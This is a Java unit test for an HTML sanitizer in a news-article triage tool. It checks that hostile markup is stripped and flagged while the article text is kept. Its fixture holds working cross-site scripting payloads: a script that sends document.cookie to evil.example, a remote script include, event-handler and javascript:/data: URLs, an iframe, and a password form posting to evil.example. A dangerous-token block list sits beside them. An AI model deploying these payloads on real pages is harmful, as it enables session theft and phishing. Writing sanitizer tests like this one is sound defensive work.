package org.copydesk.triage.control;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.copydesk.triage.entity.Finding;
import org.copydesk.triage.entity.FindingKind;
import org.copydesk.triage.entity.Paragraph;
import org.copydesk.triage.entity.Severity;
import org.copydesk.triage.entity.TriageReport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileHtmlTest {

    private static final ArticleAnalyzer ANALYZER = new ArticleAnalyzer();

    private static final String BODY = "<p>The city council approved the new budget on Tuesday after a long debate "
            + "about schools, roads and the future of the harbour district.</p>";

    private static final String HOSTILE = """
            <html><head><title>Budget vote</title>
            <meta http-equiv="refresh" content="0;url=https://evil.example/">
            <base href="https://evil.example/">
            <style>body { display:none }</style>
            <script>document.location='https://evil.example/?c='+document.cookie</script>
            </head><body onload="steal()">
            <h1>Council approves budget</h1>
            %s
            <p>Read the <a href="javascript:alert('href')">full budget</a> or the
            <a href=" jav&#x09;ascript:alert('tab')">summary</a> or
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">the annex</a>.</p>
            <img src="x" onerror="alert('img')">
            <p onclick="alert('p')" style="background:url(javascript:alert('style'))">Councillors voted 31 to 12 in favour
            of the plan, which raises spending on schools by four percent.</p>
            <iframe src="https://evil.example/frame"></iframe>
            <svg onload="alert('svg')"><circle r="5"/></svg>
            <object data="data:text/html,<script>alert('object')</script>"></object>
            <embed src="javascript:alert('embed')">
            <form action="https://evil.example/login"><input name="password"></form>
            <SCRIPT SRC=//evil.example/x.js></SCRIPT>
            <p>The mayor said the vote was "a fair compromise".</p>
            </body></html>
            """.formatted(BODY);

    @ParameterizedTest
    @ValueSource(strings = {"<script", "alert(", "onerror", "onload", "onclick", "javascript:", "jav\tascript",
            "<iframe", "<style", "<svg", "data:", "<object", "<embed", "<form", "<input", "<base", "http-equiv",
            "evil.example", "document.cookie"})
    void nothingDangerousSurvivesInSafeHtmlOrWorkingText(String dangerous) {
        TriageReport report = ANALYZER.analyze(HOSTILE, "text/html; charset=UTF-8");

        assertThat(report.safeHtml().toLowerCase()).doesNotContain(dangerous.toLowerCase());
        assertThat(report.workingText().toLowerCase()).doesNotContain(dangerous.toLowerCase());
    }

    @Test
    void articleTextSurvivesTheClean() {
        TriageReport report = ANALYZER.analyze(HOSTILE, "text/html");

        assertThat(report.workingText()).startsWith("Council approves budget\n\nThe city council approved")
                .contains("Councillors voted 31 to 12", "The mayor said the vote was \"a fair compromise\".");
        assertThat(report.safeHtml()).contains("<h1>Council approves budget</h1>", "full budget</a>");
    }

    @Test
    void everyHostilePartIsReportedAtItsPlaceInTheOriginal() {
        TriageReport report = ANALYZER.analyze(HOSTILE, "text/html");
        List<String> flagged = report.findingsOf(FindingKind.UNSAFE_MARKUP).stream()
                .map(f -> HOSTILE.substring(f.start(), f.end())).toList();

        assertThat(flagged).anyMatch(s -> s.startsWith("<script>document.location") && s.endsWith("</script>"))
                .anyMatch(s -> s.startsWith("<iframe") && s.endsWith("</iframe>"))
                .anyMatch(s -> s.startsWith("<svg onload") && s.endsWith("</svg>"))
                .anyMatch(s -> s.startsWith("<style>"))
                .anyMatch(s -> s.startsWith("<base"))
                .anyMatch(s -> s.startsWith("<meta http-equiv"))
                .anyMatch(s -> s.startsWith("<object"))
                .anyMatch(s -> s.startsWith("<embed"))
                .anyMatch(s -> s.startsWith("<form"))
                .anyMatch(s -> s.equals("<img src=\"x\" onerror=\"alert('img')\">"))
                .anyMatch(s -> s.startsWith("<a href=\"javascript:"))
                .anyMatch(s -> s.startsWith("<a href=\" jav&#x09;ascript"))
                .anyMatch(s -> s.startsWith("<a href=\"data:"))
                .anyMatch(s -> s.startsWith("<p onclick"))
                .anyMatch(s -> s.startsWith("<body onload"))
                .anyMatch(s -> s.equals("<SCRIPT SRC=//evil.example/x.js></SCRIPT>"));
        assertThat(report.findingsOf(FindingKind.UNSAFE_MARKUP)).allMatch(Finding::removed)
                .anyMatch(f -> f.severity() == Severity.HIGH);
        assertThat(report.routing().reasons()).anyMatch(r -> r.contains("high-severity"));
    }

    @Test
    void benignHtmlHasNoUnsafeFindingAndParagraphSpansCoverTheirElements() {
        String html = "<article><h1>Council approves budget</h1>" + BODY
                + "<p>Councillors voted <b>31 to 12</b> in favour, <a href=\"https://example.org/vote\">records show</a>."
                + "</p><ul><li>Schools: +4%</li><li>Roads: +2%</li></ul></article>";
        TriageReport report = ANALYZER.analyze(html, "text/html");

        assertThat(report.has(FindingKind.UNSAFE_MARKUP)).isFalse();
        assertThat(report.paragraphs()).extracting(Paragraph::text).containsExactly("Council approves budget",
                "The city council approved the new budget on Tuesday after a long debate about schools, roads and the "
                        + "future of the harbour district.",
                "Councillors voted 31 to 12 in favour, records show.", "Schools: +4%", "Roads: +2%");
        assertThat(html.substring(report.paragraphs().get(1).start(), report.paragraphs().get(1).end()))
                .isEqualTo(BODY);
        assertThat(report.safeHtml()).contains("<a href=\"https://example.org/vote\" rel=\"nofollow noopener noreferrer\">");
    }

    @Test
    void navigationAndFooterElementsAreFurniture() {
        String html = "<nav><a href=\"/\">Home</a> <a href=\"/world\">World</a></nav><h1>Council approves budget</h1>"
                + BODY + "<footer>© 2024 The Harbour Gazette. All rights reserved.</footer>";
        TriageReport report = ANALYZER.analyze(html, "text/html");

        assertThat(report.workingText()).isEqualTo("Council approves budget\n\n"
                + "The city council approved the new budget on Tuesday after a long debate about schools, roads and the "
                + "future of the harbour district.");
        assertThat(report.findings()).extracting(f -> html.substring(f.start(), f.end()))
                .anyMatch(s -> s.startsWith("<nav>")).anyMatch(s -> s.startsWith("<footer>"));
    }
}
